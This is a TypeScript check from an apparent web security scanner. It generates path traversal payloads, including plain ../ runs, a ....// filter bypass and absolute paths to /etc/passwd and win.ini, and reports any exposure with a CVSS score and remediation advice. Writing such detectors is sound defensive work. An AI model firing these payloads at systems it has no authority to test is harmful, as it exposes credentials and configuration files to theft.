import { activeCheck, around, type Probe, type Proof } from '../active/active-check.ts';
import { pointName } from '../active/injection-points.ts';

/** Files every Unix and every Windows host has, and what proves the answer is that file. */
const KNOWN_FILES = [
  { path: 'etc/passwd', proof: /(^|\n)root:[^:\n]*:0:0:/ },
  { path: 'windows/win.ini', proof: /\[(fonts|extensions)\][\s\S]{0,400}\[(mci extensions|files|fonts|extensions)\]|for 16-bit app support/i },
];
const DEPTH = 8;

/** Ways to climb out of the directory the application reads from, for one known file. */
function payloads(original: string, file: string): string[] {
  const win = file.startsWith('windows');
  const up = win ? '..\\'.repeat(DEPTH) : '../'.repeat(DEPTH);
  const target = win ? file.replace(/\//g, '\\') : file;
  const dir = original.includes('/') ? original.slice(0, original.lastIndexOf('/') + 1) : '';
  return [
    `${up}${target}`,
    // kept inside an expected prefix (`docs/…`), or past a filter that removes `../` once
    ...(dir ? [`${dir}${up}${target}`] : []),
    `${'....//'.repeat(DEPTH)}${file}`,
    win ? `C:\\${target}` : `/${file}`,
  ];
}

async function traversal(probe: Probe): Promise<Proof | null> {
  for (const { path, proof } of KNOWN_FILES) {
    if (proof.test(probe.baseline.body)) continue;
    for (const payload of payloads(probe.point.original, path)) {
      const res = await probe.send(payload);
      if (!res) return null;
      const m = proof.exec(res.body);
      if (m) return { payload, technique: `contents of /${path} returned`, indicator: around(res.body, m.index + (m[1]?.length ?? 0), 120).replace(/:[^:\n ]*:0:0:/, ':x:0:0:') };
    }
  }
  return null;
}

export const pathTraversal = activeCheck({
  id: 'web_app:path-traversal',
  title: 'Path traversal',
  maxSeverity: 'high',
  description: 'Sends ../ sequences (plain, after the parameter\'s own directory, and the ....// filter bypass) and absolute paths to /etc/passwd and C:\\windows\\win.ini in each query parameter and form field; reports an answer that contains the file.',
  test: traversal,
  finding: (point, proof) => ({
    title: `Path traversal in ${pointName(point)}`,
    cvss_vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
    description: `The value of \`${point.parameter}\` sent to ${point.method} ${point.url} is used as a file path without confinement (${proof.technique}). Any file the server process can read is exposed: configuration, credentials, keys, source code.`,
    remediation: 'Map user input to an allow-list of files (ids, not paths); otherwise resolve the path and refuse it unless it stays inside the intended directory.',
    references: ['https://cwe.mitre.org/data/definitions/22.html', 'https://owasp.org/www-community/attacks/Path_Traversal'],
    tags: ['web', 'injection', 'path-traversal', 'active'],
  }),
});
